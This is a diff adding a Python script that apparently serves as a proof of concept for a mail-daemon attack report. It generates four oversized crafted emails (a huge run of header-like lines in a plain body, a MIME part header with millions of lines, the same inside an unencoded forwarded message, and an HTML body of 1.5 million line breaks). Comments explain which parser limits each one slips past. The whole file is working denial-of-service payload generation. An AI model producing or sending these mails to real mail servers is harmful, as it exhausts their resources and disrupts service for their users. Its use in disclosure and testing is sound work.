@@ -1,0 +1,19 @@
+#!/usr/bin/env python3
+"""Writes the hostile mails of the attack report into the directory given (default /tmp).
+Each is under max_message_bytes (25 MB); run `peak.sh FILE` on each."""
+import sys
+d = sys.argv[1] if len(sys.argv) > 1 else '/tmp'
+hdr = 'From: a@b.dk\r\nTo: h@x.dk\r\nSubject: x\r\nMessage-ID: <1@b.dk>\r\nMIME-Version: 1.0\r\n'
+n = 24_000_000
+def w(name, s):
+    open(f'{d}/{name}', 'w').write(s)
+# Plain-text body of "a:" lines: read in the daemon's own process.
+w('labels.eml', hdr + 'Content-Type: text/plain\r\n\r\n' + 'a:\n' * (n // 3))
+# One MIME part whose header section has 6 million lines (only the mail's own header is limited).
+w('parthdr.eml', hdr + 'Content-Type: multipart/mixed; boundary=BB\r\n\r\n--BB\r\n'
+  + 'a:b\n' * (n // 4) + '\r\nhi\r\n--BB--\r\n')
+# The same inside a forwarded mail that is not encoded (no boundary line before its header).
+w('fwdhdr.eml', hdr + 'Content-Type: multipart/mixed; boundary=BB\r\n\r\n--BB\r\n'
+  + 'Content-Type: message/rfc822\r\n\r\n' + 'a:b\n' * (n // 4) + '\r\nhi\r\n--BB--\r\n')
+# HTML body of 1.5 million "a:<br>": the child reads it, the parent takes back every entry.
+w('html2.eml', hdr + 'Content-Type: text/html\r\n\r\n' + 'a:<br>' * 1_500_000)
